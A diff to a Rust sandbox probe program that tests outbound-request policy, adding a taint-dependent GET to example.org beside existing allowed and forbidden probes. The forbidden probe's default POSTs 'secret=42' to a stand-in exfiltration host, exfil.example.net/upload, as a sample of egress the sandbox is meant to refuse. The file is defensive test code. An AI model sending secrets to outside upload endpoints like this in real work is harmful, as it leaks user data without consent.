@@ -1,18 +1,24 @@
-//! egress-probe: tries two outbound requests, one its policy permits (a GET to example.com) and
-//! one it forbids (a POST elsewhere), and reports each outcome: the status and size of a response,
-//! or the typed error (`access-denied`, or `unsupported` on a host without HTTP).
+//! egress-probe: tries three outbound requests and reports each outcome — the status and size
+//! of a response, or the typed error (`access-denied`, `io`, ...):
+//!
+//! - `allowed`: a GET its policy permits (example.com);
+//! - `forbidden`: a POST elsewhere, which no policy permits;
+//! - `tainted`: a GET to example.org, which the policy permits only while the run carries no
+//!   health data (run it with `--input-taint '{"classification": 2, "categories": ["health"]}'`
+//!   to see it refused).
 
 use cordon_guest::Error;
 use cordon_guest::http::{self, Request};
 use serde::Deserialize;
 use serde_json::{Value, json};
 
-/// Optional input: `{"allowed": "<url>", "forbidden": "<url>"}`.
+/// Optional input: `{"allowed": "<url>", "forbidden": "<url>", "tainted": "<url>"}`.
 #[derive(Deserialize, Default)]
 #[serde(default, deny_unknown_fields)]
 struct Input {
     allowed: Option<String>,
     forbidden: Option<String>,
+    tainted: Option<String>,
 }
 
 fn probe(request: Request) -> Value {
@@ -36,9 +42,13 @@ fn run(input: Option<Input>) -> Result<Value, Error> {
     let forbidden = input
         .forbidden
         .unwrap_or_else(|| "https://exfil.example.net/upload".to_owned());
+    let tainted = input
+        .tainted
+        .unwrap_or_else(|| "https://example.org/".to_owned());
     Ok(json!({
         "allowed": probe(Request::get(allowed)),
         "forbidden": probe(Request::post(forbidden, "secret=42").header("content-type", "text/plain")),
+        "tainted": probe(Request::get(tainted)),
     }))
 }
 
